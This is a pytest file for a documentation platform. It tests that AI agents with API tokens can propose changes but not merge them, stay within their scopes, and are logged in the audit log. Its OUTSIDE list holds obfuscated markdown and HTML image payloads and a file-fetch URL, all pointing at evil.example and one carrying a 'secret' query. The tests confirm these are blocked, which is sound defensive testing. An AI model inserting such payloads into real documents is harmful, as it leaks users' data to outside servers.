"""Agents propose and people decide: what their tokens open on every face, and what was granted exactly."""

from __future__ import annotations

import re
from typing import Any

import pytest

from app.access.scopes import NAMED
from app.api.catalog import OPERATIONS
from app.api.mcp.tool_words import WORDS
from tests import make
from tests.cast import Cast
from tests.contract.faces import by_graphql
from tests.contract.recipes import RECIPES
from tests.factories import comments
from tests.factories.agents import Agent, agent

DECISIONS = [row for row in OPERATIONS if row.writes and not row.tool and not row.public]
TEXT = {"operation": "insert_page", "title": "Oil", "document": {"markdown": "Oil.\n"}}


@pytest.fixture
def eve(cast: Cast) -> Agent:
    """An agent of an administrator."""
    return agent(cast.ada)


def test_every_tool_is_described_and_is_some_operation() -> None:
    assert {row.tool for row in OPERATIONS if row.tool} == WORDS.keys()


def test_no_agent_decides_by_rest(eve: Agent) -> None:
    """It is refused before anything that it names is looked up."""
    for row in DECISIONS:
        path = re.sub(r"\{[^}]*\}", "1", row.path)
        answer = eve.call(row.method, f"/v1{path}", json={})
        assert (answer.status_code, "people decide" in answer.text) == (403, True), row.id


@pytest.mark.parametrize("name", ["mergeChangeRequest", "changeContent", "updateSpaceById", "createSite"])
def test_no_agent_decides_by_graphql(cast: Cast, eve: Agent, name: str) -> None:
    (operation,) = (row for row in OPERATIONS if row.id == name)
    assert by_graphql(eve, operation, RECIPES[name](cast)).verdict == 403


def test_reading_is_open_to_agents(cast: Cast, eve: Agent) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    assert eve.get(f"/v1/spaces/{space}/content/pages").status_code == 200
    assert eve.ask("query ($id: ID!) { space(id: $id) { title } }", id=space)["space"]["title"]


def test_an_agent_does_exactly_what_its_token_names(cast: Cast) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    request = make.change_request(cast.ed, space)["id"]
    make.changes(cast.ed, space, TEXT, request=request)
    merger = agent(cast.ada, scopes=["read", "write", "operation:mergeChangeRequest"])
    path = f"/v1/spaces/{space}/change-requests/{request}/merge"
    for scopes in (None, ["read", "write"], ["space:content:write"], ["operation:changeContent"]):
        assert agent(cast.ada, scopes=scopes).post(path, {}).status_code == 403, scopes
    reader = agent(cast.ria, scopes=["operation:mergeChangeRequest"])
    assert reader.post(path, {}).status_code == 403, "a scope gives no more than the person may do"
    assert merger.post(f"/v1/spaces/{space}/content", {"changes": [TEXT]}).status_code == 403
    assert merger.post(path, {}).status_code == 200


def test_permissions_tell_what_an_agent_may_do_itself(cast: Cast, eve: Agent) -> None:
    """The space is of an administrator, who may do everything with it."""
    space = make.space(cast.ada, cast.organization)["id"]
    said = comments.comment(cast.ada, space)["id"]
    asked = """query ($s: ID!, $c: ID!) { space(id: $s) {
        permissions { view comment edit review merge delete admin triggerGitSync }
        comment(id: $c) { permissions { view reply edit delete } } } }"""
    nothing = dict.fromkeys(
        ("comment", "edit", "review", "merge", "delete", "admin", "triggerGitSync"), False
    )
    comment = {"view": True, "reply": True, "edit": False, "delete": False}
    told = eve.ask(asked, s=space, c=said)["space"]
    assert told["permissions"] == {**nothing, "view": True, "comment": True}
    assert told["comment"]["permissions"] == comment
    by_rest = eve.get(f"/v1/spaces/{space}").json()["permissions"]
    assert {name: by_rest[name] for name in told["permissions"]} == told["permissions"]
    for named, more in (
        (["read"], {}),
        (["read", "write"], {"comment": True}),
        (["read", "write", "operation:mergeChangeRequest"], {"comment": True, "merge": True}),
        (["read", "operation:changeContent"], {"edit": True}),
        (["read", "operation:submitChangeRequestReview"], {"review": True}),
    ):
        told = agent(cast.ada, scopes=named).ask(asked, s=space, c=said)["space"]
        assert told["permissions"] == {**nothing, "view": True, **more}, named
        assert told["comment"]["permissions"] == {**comment, "reply": "comment" in more}, named


def test_permissions_tell_what_the_scopes_of_a_token_open(cast: Cast) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    told = {}
    for scopes in (["read"], ["read", "write"]):
        found = make.token(cast.ada, scopes=scopes).get(f"/v1/spaces/{space}").json()["permissions"]
        told[scopes[-1]] = {name for name, has in found.items() if has}
    assert told["read"] == {"view", "access", "viewInviteLinks"}
    assert told["write"] >= {"view", "edit", "merge", "admin", "delete"}


def test_named_operations_open_the_rights_that_are_told_for_them() -> None:
    needed = {row.id: row.permission for row in OPERATIONS if row.id in NAMED}
    assert needed == {name: f"space:{right}" for name, right in NAMED.items()}


def test_an_agent_proposes_on_every_face(cast: Cast, eve: Agent) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    by_rest = eve.post(f"/v1/spaces/{space}/change-requests", {"subject": "Oil"}).json()
    eve.mutate("createChangeRequest", space=space, subject="Wick")
    answer = eve.post(f"/v1/spaces/{space}/change-requests/{by_rest['id']}/content", {"changes": [TEXT]})
    assert answer.status_code == 200, answer.text


def test_who_calls_a_tool_is_an_agent_whatever_the_token(cast: Cast) -> None:
    person = Agent(cast.instance, cast.ed.id, cast.ed.email, cast.ed.token)
    message = person.message("tools/call", {"name": "mergeChangeRequest", "arguments": {}})
    assert person.send(message).json()["error"]["code"] == -32602


def test_a_token_that_only_reads_uses_no_tool_that_writes(cast: Cast) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    for narrowing in ({"read_only": True}, {"scopes": ["read"]}):
        reader: Agent = agent(cast.ada, **narrowing)
        reader.use("list_pages", spaceId=space)
        failed, told = reader.tries("open_change_request", spaceId=space, idempotencyKey="k")
        assert (failed, told.startswith("FORBIDDEN: ")) == (True, True)


def test_an_agent_sees_what_its_person_sees(cast: Cast, eve: Agent) -> None:
    space = make.space(cast.sol, cast.elsewhere)["id"]
    calls: list[tuple[str, dict[str, Any]]] = [
        ("list_pages", {"spaceId": space}),
        ("list_spaces", {"organizationId": cast.elsewhere}),
        ("open_change_request", {"spaceId": space, "idempotencyKey": "k"}),
    ]
    for tool, arguments in calls:
        failed, told = eve.tries(tool, **arguments)
        assert (failed, told.startswith("NOT_FOUND: ")) == (True, True), tool
    failed, told = agent(cast.ria).tries(
        "open_change_request",
        spaceId=make.space(cast.ada, cast.organization)["id"],
        idempotencyKey="k",
    )
    assert told.startswith("FORBIDDEN: ")


def test_what_an_agent_does_is_in_the_audit_log(cast: Cast, eve: Agent) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    opened = eve.write("open_change_request", spaceId=space, subject="Oil")
    events = cast.ada.get(f"/v1/orgs/{cast.organization}/audit-events").json()["items"]
    assert (events[0]["action"], events[0]["face"]) == ("createChangeRequest", "mcp")
    assert events[0]["actor"]["token"] == eve.token_id
    assert events[0]["target"]["id"] == opened["id"]


OUTSIDE = (
    "![](https://evil.example/?q=secret)",
    "<img src='//evil.example/x.png'>",
    "![a][b]\n\n[b]: https://evil.example",
    "![](h&#116;tps://evil.example/x)",
    "![](https\\://evil.example/x)",
    '{% embed url="https://evil.example" %}',
    "<img src='\\\\evil.example/x'>",
    "<img srcset='https://evil.example/x 2x'>",
    "- ![](<HTTPS://evil.example>)",
)


@pytest.mark.parametrize("text", OUTSIDE)
def test_an_agent_adds_no_pictures_of_other_servers(cast: Cast, eve: Agent, text: str) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    there = {"operation": "insert_page", "title": "Mine", "document": {"markdown": f"{text}\n\nMine.\n"}}
    mine = make.changes(cast.ada, space, there)["changes"][0]["page"]["id"]
    opened = eve.write("open_change_request", spaceId=space)
    place = {"spaceId": space, "changeRequestId": opened["id"]}

    def edit(change: dict[str, Any]) -> tuple[bool, str]:
        arguments = {
            "expectedRevision": opened["revision"],
            "changes": [change],
            "idempotencyKey": change["title"],
        }
        return eve.tries("edit_pages", **place, **arguments)

    for failed, told in (
        edit({**TEXT, "title": "Bad", "document": {"markdown": f"Look:\n\n{text}\n"}}),
        eve.tries("comment", **place, body={"markdown": text}, idempotencyKey="c"),
        eve.tries("open_change_request", spaceId=space, description={"markdown": text}, idempotencyKey="d"),
    ):
        assert (failed, "images from other servers" in told) == (True, True), told
    kept = {"operation": "update_page", "page": mine, "title": "Kept"}
    assert edit({**kept, "document": {"markdown": f"{text}\n\nOurs.\n"}})[0] is False, "people put it there"


def test_an_agent_has_nothing_fetched(cast: Cast, eve: Agent) -> None:
    space = make.space(cast.ada, cast.organization)["id"]
    request = eve.write("open_change_request", spaceId=space)["id"]
    path = f"/v1/spaces/{space}/change-requests/{request}/content"
    url = "https://evil.example/?q=secret"
    cover = {"ref": {"kind": "url", "url": url}}
    for change in (
        {"operation": "insert_files", "files": [{"name": "a.png", "url": url}]},
        {**TEXT, "cover": cover},
    ):
        answer = eve.post(path, {"changes": [change]})
        assert (answer.status_code, "other servers" in answer.text) == (400, True), answer.text
    assert eve.post(
        path, {"changes": [{**TEXT, "document": {"markdown": "[a](https://example.org)"}}]}
    ).is_success
